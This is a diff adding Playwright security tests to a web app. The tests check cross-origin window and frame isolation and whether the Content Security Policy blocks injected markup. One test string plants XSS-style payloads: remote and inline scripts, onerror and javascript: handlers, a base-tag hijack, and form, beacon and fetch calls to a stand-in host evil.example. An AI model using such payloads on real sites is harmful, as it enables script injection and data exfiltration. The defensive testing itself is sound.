@@ -139,6 +139,70 @@ test('H6 links lead where they should: no way in by “next”, digits for Whats
   expect(await map.evaluate('window.opener')).toBeNull();
 });
 
+test('H1 H2 a page of somebody else neither frames a page of ours nor keeps hold of its window', async ({
+  page,
+  context,
+}) => {
+  const foreign = address.replace('127.0.0.1', 'localhost');
+  // Browsers apply Cross-Origin-Opener-Policy at trustworthy origins only, such as those of this machine.
+  await context.route(`${foreign}/attack`, (route) =>
+    route.fulfill({ contentType: 'text/html', headers: {}, body: '<!doctype html><title>attack</title>' }),
+  );
+  await page.goto(`${foreign}/attack`);
+  for (const [index, path] of ['/login', '/rate/nothing', '/guide'].entries()) {
+    const opened = context.waitForEvent('page');
+    await page.evaluate(`void (window.held = open('${address}${path}'))`);
+    const window = await opened;
+    await window.waitForLoadState();
+    expect(await window.evaluate('window.opener')).toBeNull();
+    // A browser tells the opener that the window is closed: it is no longer in reach.
+    await expect.poll(() => page.evaluate('held.closed')).toBe(true);
+    await window.close();
+    await page.evaluate(
+      `void document.body.append(Object.assign(document.createElement('iframe'), { src: '${address}${path}' }))`,
+    );
+    const refused = Array<string>(index + 1).fill('chrome-error://chromewebdata/');
+    const frames = () => page.frames().filter((frame) => frame !== page.mainFrame());
+    await expect.poll(() => frames().map((frame) => frame.url())).toEqual(refused);
+  }
+});
+
+/** Puts into a page what an attacker would, and gives what became of a request to the attacker's server. */
+const injection = `(() => {
+  const evil = 'https://evil.example/';
+  const add = (tag, values) => document.body.appendChild(Object.assign(document.createElement(tag), values));
+  add('script', { textContent: 'window.broken = 1' });
+  add('script', { src: evil + 'a.js' });
+  add('script', { src: 'data:text/javascript,window.broken=1' });
+  add('img', { src: evil + 'pixel.png' });
+  add('div', { innerHTML: '<img src="data:," onerror="window.broken = 1">' });
+  add('a', { href: 'javascript:window.broken=1' }).click();
+  add('link', { rel: 'stylesheet', href: evil + 'a.css' });
+  add('base', { href: evil });
+  add('iframe', { srcdoc: '<script>parent.broken = 1</script>' });
+  add('object', { data: evil + 'a.swf' });
+  add('form', { action: evil + 'form' }).submit();
+  navigator.sendBeacon(evil + 'beacon', 'x');
+  setTimeout('window.broken = 1');
+  return fetch(evil + 'data').then(() => 'sent', () => new Promise((done) => setTimeout(done, 0, 'refused')));
+})()`;
+
+test('H1 markup that gets into a page runs no script, and sends nothing away', async ({ page, context }) => {
+  const asked: string[] = [];
+  await context.route(/evil\.example/, (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({ contentType: 'text/javascript', body: 'window.broken = 1' });
+  });
+  for (const path of ['/login', '/guide']) {
+    await page.goto(path);
+    expect(await page.evaluate(injection)).toBe('refused');
+    expect(await page.evaluate('window.broken')).toBeUndefined();
+    expect(new URL(page.url()).origin).toBe(address);
+    expect(await page.evaluate('document.baseURI')).toBe(address + path);
+  }
+  expect(asked).toEqual([]);
+});
+
 test('R10 whoever calls themselves an administrator sees the passenger screen', async ({ page }) => {
   const driver = await createDriver();
   await signIn(page, driver);
